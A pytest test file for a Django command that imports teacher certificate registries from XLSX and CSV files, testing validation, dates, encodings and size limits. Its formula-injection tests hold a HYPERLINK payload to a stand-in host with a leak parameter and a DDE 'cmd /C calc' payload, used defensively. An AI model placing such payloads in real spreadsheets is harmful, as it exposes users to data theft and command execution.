import csv
import datetime
import io
import re
import tracemalloc
import zipfile

from django.core.management import CommandError, call_command

import pytest
import time_machine
from openpyxl import Workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from registry.imports import COLUMNS
from tests.factories import CertificateFactory, OrganisationFactory, PersonFactory
from workflows.models import Certificate, Person

pytestmark = pytest.mark.django_db

HEADINGS = list(COLUMNS.values())
D = datetime.date


@pytest.fixture
def schools(db):
    return [
        OrganisationFactory(short_name="МБОУ «СОШ № 1»"),
        OrganisationFactory(short_name="МБОУ «Лицей»"),
    ]


def good_rows():
    return [
        ["Семёнова", "Ольга", "Петровна", "МБОУ «СОШ № 1»", "директор", "Ментор",
         "42-М-10001", "24.11.2023", "", "1234", "20.11.2023"],
        ["Ким", "Олег", "", "мбоу «лицей»", "методист", "Тьютор",
         "42-Т-10002", "2024-02-01", "Функциональная грамотность", "77", "01.02.2024"],
        ["Орлов", "Иван", "Ильич", "МБОУ «СОШ № 1»", "учитель", "ментор",
         "42-М-10003", datetime.date(2025, 3, 3), "", "", ""],
    ]  # fmt: skip


def write_xlsx(path, rows, headings=HEADINGS):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headings)
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def write_csv(path, rows, delimiter=";", encoding="utf-8-sig"):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(HEADINGS)
    writer.writerows([[str(cell) for cell in row] for row in rows])
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def run(path, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command("import_certificates", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_a_good_xlsx_file_is_imported_and_a_second_run_changes_nothing(tmp_path, schools):
    path = write_xlsx(tmp_path / "list.xlsx", good_rows())
    out, err = run(path)
    assert "Импортировано: 3" in out
    assert "3/3" in err  # the progress bar
    semenova = Certificate.objects.get(number="42-М-10001")
    assert semenova.person.full_name == "Семёнова Ольга Петровна"
    assert semenova.valid_until == datetime.date(2026, 11, 24)
    assert semenova.order == "№ 1234 от 20.11.2023"
    assert Certificate.objects.get(number="42-Т-10002").person.organisation == schools[1]
    counts = (Certificate.objects.count(), Person.objects.count(), Certificate.history.count())

    out, _err = run(path)
    assert "Импортировано: 0" in out and "3" in out
    assert (Certificate.objects.count(), Person.objects.count(), Certificate.history.count()) == (
        counts
    )


def test_a_csv_in_windows_1251_with_commas_is_read_too(tmp_path, schools):
    path = write_csv(tmp_path / "list.csv", good_rows(), delimiter=",", encoding="cp1251")
    run(path)
    assert Certificate.objects.count() == 3


def test_an_existing_person_of_the_organisation_is_reused(tmp_path, schools):
    person = PersonFactory(
        surname="Семенова", name="Ольга", patronymic="Петровна", organisation=schools[0]
    )
    run(write_xlsx(tmp_path / "list.xlsx", good_rows()[:1]))
    assert Certificate.objects.get().person == person


def test_one_bad_row_imports_nothing_and_every_bad_row_is_reported(tmp_path, schools):
    CertificateFactory(number="42-М-55555")
    rows = good_rows()
    rows.append(["Петров", "Пётр", "", "Школа № 999", "учитель", "Ментор",
                 "42-М-10004", "31.02.2024", "", "", ""])  # fmt: skip
    rows.append(["Сидоров", "Сидор", "", "МБОУ «СОШ № 1»", "учитель", "Коуч",
                 "42-М-10001", "01.01.2024", "", "", ""])  # fmt: skip
    rows.append(["Зайцев", "Заяц", "", "МБОУ «СОШ № 1»", "учитель", "Ментор",
                 "42-М-55555", "01.01.2024", "", "", ""])  # fmt: skip
    path = write_xlsx(tmp_path / "list.xlsx", rows)
    with pytest.raises(CommandError, match="Ничего не импортировано: 3 из 6"):
        run(path)
    assert Certificate.objects.count() == 1
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_certificates", str(path), stderr=err)
    report = err.getvalue()
    assert "Строка 5: неизвестная организация «Школа № 999»" in report
    assert "неверная дата «31.02.2024»" in report
    assert (
        "Строка 6: неизвестный статус «Коуч»; повторяющийся номер 42-М-10001 (также в строке 2)"
        in report
    )
    assert "Строка 7: номер 42-М-55555 уже принадлежит другому свидетельству" in report


def test_dry_run_validates_without_writing(tmp_path, schools):
    out, _err = run(write_xlsx(tmp_path / "list.xlsx", good_rows()), "--dry-run")
    assert "Файл корректен: строк 3" in out
    assert Certificate.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("list.xlsx", b"this is not a workbook", "не является читаемой книгой XLSX"),
        ("list.csv", b"", "Файл пуст"),
        ("list.csv", "Имя;Город\nОльга;Юрга\n".encode(), "нет столбцов: Фамилия, Организация"),
        ("list.pdf", b"%PDF-1.4", "Импортировать можно только файлы .xlsx и .csv"),
    ],
)
def test_a_malformed_file_gives_a_clear_error_and_no_traceback(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(CommandError, match=message):
        run(path)
    assert Certificate.objects.count() == 0


# -- issue 11, items 2 and 9 ------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Открыть")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def refused(path, *args) -> str:
    """Run the import, expect it to refuse every row, and return its report."""
    err = io.StringIO()
    with pytest.raises(CommandError, match="Ничего не импортировано"):
        call_command("import_certificates", str(path), *args, stdout=io.StringIO(), stderr=err)
    assert (Certificate.objects.count(), Person.objects.count()) == (0, 0)
    return err.getvalue()


def file_error(path) -> str:
    """Run the import, expect the file to be refused whole, and return the message."""
    with pytest.raises(CommandError) as error:
        run(path)
    assert Certificate.objects.count() == 0
    return str(error.value)


@pytest.mark.parametrize("writer", [write_xlsx, write_csv])
def test_cells_that_would_be_formulas_are_refused_by_row_and_column(tmp_path, schools, writer):
    rows = good_rows()
    rows[0][0] = HYPERLINK
    rows[1][4] = DDE
    rows[2][9] = "+7(38451)4-00-00"
    report = refused(writer(tmp_path / f"list.{writer.__name__.split('_')[1]}", rows))
    assert "Строка 2: ячейка в столбце «Фамилия» начинается с «=»" in report
    assert "Строка 3: ячейка в столбце «Должность» начинается с «@»" in report
    assert "Строка 4: ячейка в столбце «Номер приказа» начинается с «+»" in report
    assert "стала бы формулой" in report


def test_a_formula_cell_of_a_workbook_is_refused_not_imported_as_its_last_value(tmp_path, schools):
    rows = good_rows()[:1]
    rows[0][2] = "=UPPER(B2)"
    report = refused(write_xlsx(tmp_path / "list.xlsx", rows))
    assert "Строка 2: ячейка в столбце «Отчество» начинается с «=»" in report


def test_a_dash_for_none_is_an_empty_cell_not_a_formula(tmp_path, schools):
    rows = good_rows()[:1]
    rows[0][2] = "-"
    rows[0][9] = "—"
    run(write_csv(tmp_path / "list.csv", rows))
    certificate = Certificate.objects.get()
    assert (certificate.person.patronymic, certificate.order_number) == ("", "")


@pytest.mark.parametrize(
    ("column", "limit"),
    [(6, 50), (0, 100), (4, 200), (8, 300), (9, 50)],
)
def test_a_value_longer_than_its_field_is_refused_before_anything_is_written(
    tmp_path, schools, column, limit
):
    rows = good_rows()[:2]
    rows[1][column] = "Я" * (limit + 1)
    path = write_xlsx(tmp_path / "list.xlsx", rows)
    heading = HEADINGS[column]
    message = (
        f"Строка 3: значение в столбце «{heading}» длиннее {limit} символов (сейчас {limit + 1})"
    )
    assert message in refused(path, "--dry-run")
    assert message in refused(path)  # on PostgreSQL this was an English DataError
    rows[1][column] = "Я" * limit
    run(write_xlsx(tmp_path / "list.xlsx", rows))
    assert Certificate.objects.count() == 2


def test_excels_doubled_quotes_in_a_csv_are_kept(tmp_path, schools):
    path = tmp_path / "list.csv"
    lines = [
        ";".join(HEADINGS),
        'Семёнова;Ольга;Петровна;"МБОУ ""СОШ № 1""";"учитель ""высшей"" категории";Ментор;'
        "42-М-10001;24.11.2023;;;",
    ]
    path.write_bytes("\r\n".join(lines).encode("utf-8-sig"))
    run(path)
    person = Certificate.objects.get().person
    assert person.position == 'учитель "высшей" категории'
    assert person.organisation == schools[0]


def test_the_heading_row_is_found_below_title_rows(tmp_path, schools):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Реестр педагогов со статусом «Ментор» и «Тьютор»"])
    sheet.append(["по состоянию на 01.11.2026", None, None, "Юргинский городской округ"])
    sheet.append([])
    sheet.append(HEADINGS)
    rows = good_rows()
    rows[2][3] = "Школа № 999"
    for row in rows:
        sheet.append(row)
    workbook.save(tmp_path / "list.xlsx")
    report = refused(tmp_path / "list.xlsx")
    assert "Строка 7: неизвестная организация «Школа № 999»" in report  # the sheet's row
    assert "Строка 5" not in report and "Строка 6" not in report

    path = tmp_path / "list.csv"
    title = "Реестр педагогов, 2026;;;;;;;;;;\r\n;;;;;;;;;;\r\n"
    path.write_bytes(title.encode() + write_csv(path, good_rows(), encoding="utf-8").read_bytes())
    run(path)
    assert Certificate.objects.count() == 3


def test_without_a_heading_row_the_message_says_where_it_was_looked_for(tmp_path, db):
    path = tmp_path / "list.csv"
    path.write_text("Реестр\n" * 12 + ";".join(HEADINGS) + "\n", encoding="utf-8")
    message = file_error(path)
    assert "нет столбцов: Фамилия, Имя, Организация" in message
    assert "в первых 10 строках" in message


@time_machine.travel(datetime.datetime(2026, 12, 1, 12, 0), tick=False)
def test_excel_serial_dates_and_two_digit_years_are_read(tmp_path, schools):
    rows = good_rows()
    rows[0][7], rows[0][10] = 45000, 44999.0  # numbers in a General-format cell
    rows[1][7], rows[1][10] = "05.10.25", "1.10.25"
    write_xlsx(tmp_path / "list.xlsx", rows)
    run(tmp_path / "list.xlsx")
    first, second = (Certificate.objects.get(number=row[6]) for row in rows[:2])
    assert (first.issued_on, first.order_date) == (D(2023, 3, 15), D(2023, 3, 14))
    assert (second.issued_on, second.order_date) == (D(2025, 10, 5), D(2025, 10, 1))

    Certificate.objects.all().delete()
    rows = good_rows()
    rows[0][7] = "45000"  # a CSV saved from Excel with the date cell left General
    rows[1][7] = "01.02.24"
    run(write_csv(tmp_path / "list.csv", rows))
    assert Certificate.objects.get(number="42-М-10001").issued_on == D(2023, 3, 15)
    assert Certificate.objects.get(number="42-Т-10002").issued_on == D(2024, 2, 1)


def test_a_mac_workbook_counts_serial_dates_from_1904(tmp_path, schools):
    workbook = Workbook()
    workbook.epoch = CALENDAR_MAC_1904
    sheet = workbook.active
    sheet.append(HEADINGS)
    row = good_rows()[0]
    row[7] = 45000 - 1462
    sheet.append(row)
    workbook.save(tmp_path / "list.xlsx")
    run(tmp_path / "list.xlsx")
    assert Certificate.objects.get().issued_on == D(2023, 3, 15)


@time_machine.travel(datetime.datetime(2026, 12, 1, 12, 0), tick=False)
def test_a_number_or_a_year_is_not_taken_for_a_date(tmp_path, schools):
    rows = good_rows()
    rows[0][7], rows[1][7], rows[2][7] = "2025", "05.10.27", 12
    report = refused(write_xlsx(tmp_path / "list.xlsx", rows))
    assert "Строка 2: неверная дата «2025»" in report
    assert "Строка 3: дата 05.10.2027 в столбце «Дата выдачи» ещё не наступила" in report
    assert "Строка 4: неверная дата «12»" in report


@pytest.mark.parametrize(
    "spelling",
    ['МБОУ "СОШ № 1"', "МБОУ „СОШ №1“", "МБОУ “СОШ № 1”", "МБОУ СОШ № 1", "мбоу 'сош №  1'"],
)
def test_an_organisation_matches_whatever_its_quotes(tmp_path, schools, spelling):
    rows = good_rows()[:1]
    rows[0][3] = spelling
    run(write_xlsx(tmp_path / "list.xlsx", rows))
    assert Certificate.objects.get().person.organisation == schools[0]


def only_russian(message: str) -> bool:
    return not re.search(
        r"[A-Za-z]", re.sub(r"XLSX|CSV|UTF-8|Windows-1251|\.xlsx|\.csv", "", message)
    )


def truncated_workbook(tmp_path):
    content = write_xlsx(tmp_path / "whole.xlsx", good_rows()).read_bytes()
    return content[: len(content) // 2]


def zip_without_a_workbook():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("list.xlsx", lambda tmp_path: b"this is not a workbook"),
        ("list.xlsx", lambda tmp_path: zip_without_a_workbook()),
        ("list.xlsx", truncated_workbook),
        ("list.csv", lambda tmp_path: ";".join(HEADINGS).encode() + b"\n" + b"x" * 200_000),
        ("list.csv", lambda tmp_path: ";".join(HEADINGS).encode() + b"\nab\x00c\n"),
        ("list.csv", lambda tmp_path: b"\x98\x98\x98"),
    ],
)
def test_every_message_about_a_bad_file_is_russian(tmp_path, db, name, content):
    path = tmp_path / name
    path.write_bytes(content(tmp_path))
    message = file_error(path)
    assert only_russian(message), message


def test_a_file_over_the_size_limit_is_refused_unread(tmp_path, schools, settings):
    path = write_csv(tmp_path / "list.csv", good_rows())
    settings.CERTIFICATE_IMPORT_MAX_SIZE = path.stat().st_size - 1
    message = file_error(path)
    assert "Файл больше" in message and "разделите список на несколько файлов" in message
    settings.CERTIFICATE_IMPORT_MAX_SIZE = path.stat().st_size
    run(path)
    assert Certificate.objects.count() == 3


def test_a_workbook_that_unpacks_far_beyond_the_limit_is_refused(tmp_path, schools, settings):
    rows = good_rows() * 700  # the same cells over and over: the archive is small
    path = write_xlsx(tmp_path / "list.xlsx", rows)
    settings.CERTIFICATE_IMPORT_MAX_SIZE = path.stat().st_size
    message = file_error(path)
    assert "в распакованном виде больше" in message


def test_a_large_file_is_read_row_by_row_not_whole(tmp_path, schools):
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(HEADINGS)
        for n in range(6000):
            writer.writerow(
                ["Семёнова", "Ольга", "Петровна", "МБОУ «СОШ № 1»", "учитель " + "ж" * 190,
                 "Тьютор", f"42-Т-{n:06d}", "24.11.2023", "Функциональная грамотность " * 10,
                 "1234", "20.11.2023"]
            )  # fmt: skip
    size = path.stat().st_size
    run(write_csv(tmp_path / "small.csv", good_rows()), "--dry-run")  # loads code, catalogues
    tracemalloc.start()
    try:
        out, _err = run(path, "--dry-run")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "строк 6000" in out
    # Reading the file whole holds its text and every cell: more than the file itself.
    assert peak < size / 3, (peak, size)
